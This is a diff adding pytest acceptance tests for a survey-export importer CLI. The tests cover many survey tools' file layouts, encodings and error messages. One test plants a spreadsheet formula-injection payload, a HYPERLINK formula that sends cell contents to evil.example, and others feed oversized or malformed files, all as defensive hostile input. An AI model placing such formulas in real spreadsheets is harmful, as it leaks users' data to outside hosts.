@@ -1,0 +1,213 @@
+"""Acceptance: `cx-pillars survey import FILE` on exports as each survey tool writes them.
+
+The files are built in the test (tests/fixtures/survey/acceptance.py) from the tools'
+documented layouts, differing from the fixtures the importer was written against
+(column orders, German / Polish / Chinese UI metadata, BOM, CRLF, UTF-16 TSV,
+Windows-1250, Excel-style workbooks, zips with a folder inside, partial top-3
+rankings, "Other" text, hostile input). Each either imports in one command with the
+respondent count, mean ranks and first places of a hand count, or fails with ONE
+line that names the file and the map line to add, and then imports with that line.
+"""
+
+from __future__ import annotations
+
+import importlib.util
+import json
+import re
+import sys
+import time
+from pathlib import Path
+
+import pytest
+
+from cx_pillars.pillars import builtin_framework
+
+FIX = Path(__file__).resolve().parent / "fixtures" / "survey"
+
+
+def _module(name: str, path: Path):
+    if name not in sys.modules:
+        spec = importlib.util.spec_from_file_location(name, path)
+        module = importlib.util.module_from_spec(spec)
+        sys.modules[name] = module
+        spec.loader.exec_module(module)
+    return sys.modules[name]
+
+
+acc = _module("survey_acceptance_exports", FIX / "acceptance.py")
+
+
+@pytest.fixture
+def run(tmp_path):
+    """Run `cx-pillars survey import ...` in-process: (exit code, output)."""
+    from typer.testing import CliRunner
+
+    from cx_pillars.cli import app
+
+    runner = CliRunner()
+    store = tmp_path / "store"
+    count = iter(range(1000))
+
+    def invoke(*args: object) -> tuple[int, str]:
+        argv = ["survey", "import", *map(str, args), "--dir", str(store)]
+        argv += ["--name", f"s{next(count)}"]
+        res = runner.invoke(app, argv)
+        assert "Traceback" not in res.output
+        return res.exit_code, res.output
+
+    return invoke
+
+
+def assert_hand_count(output: str, rankings) -> dict:
+    doc = json.loads(output)
+    n, mean, first = acc.hand_count(rankings)
+    assert doc["respondents"] == n
+    assert doc["skipped"] == {"no ranking": sum(1 for r in rankings if not r)}
+    got = {r["pillar"]: r for r in doc["ranking"]}
+    assert {p: got[p]["mean_rank"] for p in acc.IDS} == pytest.approx(mean, abs=1e-9)
+    assert {p: got[p]["first_place_share"] for p in acc.IDS} == pytest.approx(first, abs=1e-9)
+    return doc
+
+
+def one_error_line(code: int, output: str, name: str) -> str:
+    assert code == 1, output
+    lines = [line for line in output.splitlines() if line.strip()]
+    assert len(lines) == 1, output
+    assert name in lines[0]
+    return lines[0]
+
+
+# -- one command, the right numbers ---------------------------------------------------------
+
+EXPORTS = {
+    "ms-forms xlsx, German UI, empty first sheet": (acc.ms_forms_xlsx, "wide"),
+    "google-forms zip with a folder, Polish UI": (acc.google_zip, "wide"),
+    "qualtrics TSV in UTF-16, CRLF, line break in a question": (
+        acc.qualtrics_tsv_utf16,
+        "qualtrics",
+    ),
+    "qualtrics zip holding an xlsx": (acc.qualtrics_zip_xlsx, "qualtrics"),
+    "surveymonkey CSV, BOM, CRLF, metadata first": (acc.surveymonkey_csv_crlf_bom, "surveymonkey"),
+    "surveymonkey xlsx": (acc.surveymonkey_xlsx, "surveymonkey"),
+    "limesurvey 6, German headings, [Rank k], semicolons, BOM": (acc.limesurvey6_csv, "limesurvey"),
+    "formbricks with Option ID columns and defanged cells": (acc.formbricks_csv, "formbricks"),
+    "surveyjs ranked area only": (acc.surveyjs_json, "surveyjs"),
+    "polish excel cp1250, semicolons, Nie wiem, a no-opinion column": (
+        acc.wide_polish_cp1250,
+        "wide",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", list(EXPORTS))
+def test_export_imports_in_one_command(case, tmp_path, run):
+    build, fmt = EXPORTS[case]
+    path = build(tmp_path)
+    code, out = run(path, "--json")
+    assert code == 0, out
+    doc = assert_hand_count(out, acc.RANKINGS)
+    assert doc["format"] == fmt
+
+
+def test_typeform_top3_with_group_titles(tmp_path, run):
+    code, out = run(acc.typeform_csv(tmp_path), "--json")
+    assert code == 0, out
+    doc = assert_hand_count(out, acc.TOP3)
+    assert doc["detected"]["group_titles"] is True and doc["detected"]["header_rows"] == 2
+
+
+def test_typeform_other_text_is_not_ranked_and_not_stored(tmp_path, run):
+    rows = acc.typeform_rows(other_at=2)  # respondent 2 wrote their own third choice
+    path = acc.typeform_csv(tmp_path, rows)
+    code, out = run(path, "--json")
+    assert code == 0, out
+    # By hand: respondent 2 picked products, service, Other -> ranked products, service.
+    expected = list(acc.TOP3)
+    expected[1] = acc.TOP3[1][:2]
+    assert_hand_count(out, expected)
+    assert "account manager" not in out
+    assert all("account manager" not in p.read_text() for p in tmp_path.rglob("*.toml"))
+
+
+def test_ms_forms_in_chinese(tmp_path, run):
+    fw = builtin_framework()
+    zh = {p.id: p.texts["zh-Hans"]["label"] for p in fw.pillars}
+    rows = acc.ms_forms_rows(item=zh, head=acc.MS_FORMS_ZH)
+    code, out = run(acc.ms_forms_xlsx(tmp_path, rows), "--json")
+    assert code == 0, out
+    assert_hand_count(out, acc.RANKINGS)
+
+
+def test_trailing_empty_columns(tmp_path, run):
+    rows = [row + ["", ""] for row in acc.surveymonkey_rows()]
+    path = tmp_path / "trailing.csv"
+    path.write_text(acc._csv_text(rows, crlf=True), encoding="utf-8")
+    code, out = run(path, "--json")
+    assert code == 0, out
+    assert_hand_count(out, acc.RANKINGS)
+
+
+# -- one line with the map line to add, and that line works ---------------------------------
+
+
+def follow_advice(line: str, tmp_path: Path, section: str) -> Path:
+    """Copy the map line the error gives (after `[section] `) into a map file."""
+    m = re.search(rf"\[{section}\] (.+?) and pass --map FILE", line)
+    assert m, line
+    path = tmp_path / "map.toml"
+    path.write_text(f"[{section}]\n{m.group(1)}\n", encoding="utf-8")
+    return path
+
+
+def test_formula_injection_cell_as_an_item(tmp_path, run):
+    rows = acc.ms_forms_rows()
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Digital experiences")'
+    for row in rows[1:]:
+        if row[6]:
+            row[6] = row[6].replace(acc.LABEL["digital"], formula)
+    path = acc.ms_forms_xlsx(tmp_path, rows)
+    line = one_error_line(*run(path), path.name)
+    assert '= "digital"' in line  # the guess names the pillar the text holds
+    code, out = run(path, "--map", follow_advice(line, tmp_path, "values"), "--json")
+    assert code == 0, out
+    assert_hand_count(out, acc.RANKINGS)
+
+
+def test_reworded_items_get_the_columns_to_map(tmp_path, run):
+    rows = acc.surveymonkey_rows()
+    reworded = {i: f"Item {chr(65 + i)}" for i in range(len(acc.IDS))}
+    for i in reworded:
+        rows[1][9 + i] = reworded[i]
+    path = tmp_path / "monkey.csv"
+    path.write_text(acc._csv_text(rows), encoding="utf-8")
+    line = one_error_line(*run(path), path.name)
+    assert "[columns]" in line and "--map" in line
+
+
+# -- hostile input: one line, quickly ---------------------------------------------------------
+
+
+def test_ten_thousand_columns(tmp_path, run):
+    path = tmp_path / "wide10k.csv"
+    head = [f"c{i}" for i in range(10_000)]
+    path.write_text(",".join(head) + "\n" + ",".join("1" for _ in head) + "\n")
+    start = time.perf_counter()
+    line = one_error_line(*run(path), path.name)
+    assert time.perf_counter() - start < 10
+    assert "10000 in all" in line and len(line) < 1000
+
+
+def test_nul_bytes(tmp_path, run):
+    path = acc.surveymonkey_csv_crlf_bom(tmp_path)
+    data = path.read_bytes().replace(b"Customer service", b"Customer\x00service", 1)
+    path.write_bytes(data)
+    one_error_line(*run(path), path.name)
+
+
+def test_zip_member_declaring_a_gigabyte(tmp_path, run):
+    path = acc.google_zip(tmp_path)
+    member = "Ankieta klientów (odpowiedzi)/Ankieta klientów.csv"
+    acc.declare_size(path, member, 1 << 30)
+    start = time.perf_counter()
+    one_error_line(*run(path), path.name)
+    assert time.perf_counter() - start < 10
